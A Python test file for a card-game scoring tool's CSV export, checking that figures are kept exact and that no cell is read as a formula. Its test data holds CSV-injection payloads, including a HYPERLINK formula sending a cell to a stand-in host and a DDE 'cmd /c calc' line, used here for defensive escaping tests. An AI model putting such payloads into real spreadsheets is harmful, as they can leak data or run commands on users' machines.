"""Tests of tables for spreadsheets: they are read back exactly, and no cell is a formula or a date."""

import csv
import re
from decimal import Decimal
from fractions import Fraction
from io import StringIO

from hypothesis import given, settings
from hypothesis import strategies as st

from prefcount.render.data import (
    FORMULA,
    STYLES,
    Cell,
    CsvStyle,
    ExactFraction,
    cell_text,
    csv_text,
    session_csv,
    settlement_object,
    sheet_object,
)
from prefcount.session.session import Session
from tests.helpers import header
from tests.render.reading import HOSTILE, sessions
from tests.store.files import session, void
from tests.tables import each_line

SPLIT_AT = (",", ";", "\t")
"""Separators of spreadsheets in different languages."""
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]{1,6}| [0-9]+/[0-9]+)?")
"""Numbers that a spreadsheet of any language reads as a number or text, never as a date."""
MILLIONTH = Fraction(1, 10**6)
TEXTS = st.text() | st.text("a1 '\"=+-@,;\t\r\n＝")


def rows(table: str, split_at: str = ",", style: CsvStyle = STYLES["comma"]) -> list[list[str]]:
    strict = split_at == style.separator
    return list(csv.reader(StringIO(table, newline=""), delimiter=split_at, strict=strict))


def harmful(table: str, style: CsvStyle = STYLES["comma"]) -> list[str]:
    """Yield cells that some spreadsheet would calculate, other than figures."""
    read = (cell for each in SPLIT_AT for row in rows(table, each, style) for cell in row)
    return [cell for cell in read if cell.startswith(FORMULA) and not number(cell)]


def shown(cell: str) -> str:
    return cell.replace("'", "")


def objects(table: str) -> list[dict[str, str]]:
    headings, *others = rows(table)
    return [dict(zip(headings, row, strict=True)) for row in others]


def number(cell: str) -> bool:
    return bool(NUMBER.fullmatch(cell))


def amount_of(cell: str) -> Fraction:
    sign, whole, fraction = re.fullmatch(r"(-?)([0-9.]+)(?: ([0-9]+/[0-9]+))?", cell).groups()  # type: ignore[union-attr]
    amount = Fraction(whole) + Fraction(fraction or 0)
    return -amount if sign else amount


@settings(max_examples=8)
@given(sessions())
def test_the_tables_have_the_figures_of_json_and_no_formula(played: Session) -> None:
    told, settled = sheet_object(played), settlement_object(played)
    results = rows(session_csv(played, "results"))
    assert [row[-5] for row in results[1:]] == [str(each) for each in settled["results"]["whole"].values()]
    exact = [Fraction(each) for each in settled["results"]["exact"].values()]
    assert [amount_of(row[-3] or row[-4]) for row in results[1:]] == exact
    assert all(
        abs(Fraction(row[-4]) - each) < MILLIONTH for row, each in zip(results[1:], exact, strict=True)
    )
    written = [posting for entry in told["entries"] for posting in entry["postings"]]
    postings = rows(session_csv(played, "postings"))[1:]
    assert [amount_of(row[6] or row[4]) for row in postings] == [Fraction(each["amount"]) for each in written]
    numbers = [str(each["n"]) for each in told["entries"]]
    assert [row[0] for row in rows(session_csv(played, "hands"))[1:]] == numbers
    for table in ("hands", "postings", "results"):
        assert harmful(session_csv(played, table)) == []


@given(st.lists(st.lists(TEXTS, min_size=1), min_size=1), st.sampled_from([*STYLES.values()]))
def test_no_text_is_a_formula_wherever_it_is_split(table: list[list[str]], style: CsvStyle) -> None:
    written = csv_text(table, style)
    assert written.startswith(style.beginning)
    written = written.removeprefix(style.beginning)
    assert harmful(written, style) == []
    assert [list(map(shown, row)) for row in rows(written, style.separator, style)] == [
        list(map(shown, row)) for row in table
    ]


@given(
    st.lists(st.lists(TEXTS.filter(str.strip), min_size=3, max_size=3), min_size=1),
    st.sampled_from([*STYLES.values()]),
)
def test_no_text_merges_rows(table: list[list[str]], style: CsvStyle) -> None:
    told = [[each.replace("\r", " ").replace("\n", " ") for each in row] for row in table]
    for each in SPLIT_AT:
        assert len(rows(csv_text(told, style).removeprefix(style.beginning), each, style)) == len(table)


@each_line("players", HOSTILE)
def test_names_are_read_back_except_for_an_apostrophe(players: tuple[str, ...]) -> None:
    read = [row["player"] for row in objects(session_csv(Session(header(players)), "results"))]
    assert list(map(shown, read)) == list(map(shown, players))
    assert [cell.startswith("'") for cell in read] == [player.startswith(FORMULA) for player in players]


@each_line(
    ("cell", "written"),
    [
        (-5, "-5"),
        (Fraction(-22, 3), "-7.333333"),
        (Fraction(5, 2), "2.5"),
        (Fraction(-1, 4), "-0.25"),
        (Fraction(1, 64), "0.015625"),
        (Fraction(1, 128), "0.007812"),
        (Fraction(1, 10**7), "0"),
        (ExactFraction(Fraction(-22, 3)), "-7 1/3"),
        (ExactFraction(Fraction(-1, 3)), "-0 1/3"),
        (ExactFraction(Fraction(1, 128)), "0 1/128"),
        (ExactFraction(Fraction(5, 2)), ""),
        (ExactFraction(7), ""),
        (Decimal("0.50"), "0.50"),
        ("=1+1", "'=1+1"),
        ("+7", "'+7"),
        ("-5", "'-5"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("＝1", "'＝1"),
        ("a=b", "a=b"),
        ('hello;=HYPERLINK("http://x/?"&A1);z', 'hello;\'=HYPERLINK("http://x/?"&A1);z'),
        ("r;=cmd|'/c calc'!A1;s", "r;'=cmd|'/c calc'!A1;s"),
        ("a\t=1", "a\t'=1"),
        ('a;"=1', "a;'\"=1"),
        ('a, "b";', 'a, "b";\''),
        ("Anna said; -2 for Vera", "Anna said; -2 for Vera"),
        ("a,=b", "a,=b"),
        ("", ""),
    ],
)
def test_figures_stay_figures_and_texts_become_harmless(cell: Cell, written: str) -> None:
    assert cell_text(cell) == written
    if not isinstance(cell, str):
        assert cell_text(cell, STYLES["semicolon"]) == written.replace(".", ",")


def test_results_have_their_exact_text() -> None:
    assert session_csv(session("anna 7h wp 6"), "results") == (
        "player,pool,dump,on Anna,on Boris,on Vera,whole,result,exact,money,currency\r\n"
        "Anna,0,4,,0,0,-50,-50.666667,-50 2/3,,\r\n"
        "Boris,0,0,20,,0,33,33.333333,33 1/3,,\r\n"
        "Vera,0,0,4,0,,17,17.333333,17 1/3,,\r\n"
    )


def test_hands_have_their_exact_text() -> None:
    assert session_csv(session("anna 7h wp 6", void(1)), "hands") == (
        "n,kind,at,counts,corrected_by,entry,note,Anna,Boris,Vera\r\n"
        "1,game,,no,2,Anna 7h wp 6 — voided by entry 2,,,,\r\n"
        "2,void,,yes,,entry 1 is void,,,,\r\n"
    )


def test_postings_have_their_exact_text() -> None:
    assert session_csv(session("anna 7h wp 7"), "postings") == (
        "n,player,column,on,amount,reason,exact\r\n"
        '1,Anna,pool,,4,"Anna: 7♥ made, 4 in the pool",\r\n'
        '1,Boris,whists,Anna,12,"Boris: whist, 3 tricks × 4 = 12 on Anna",\r\n'
    )
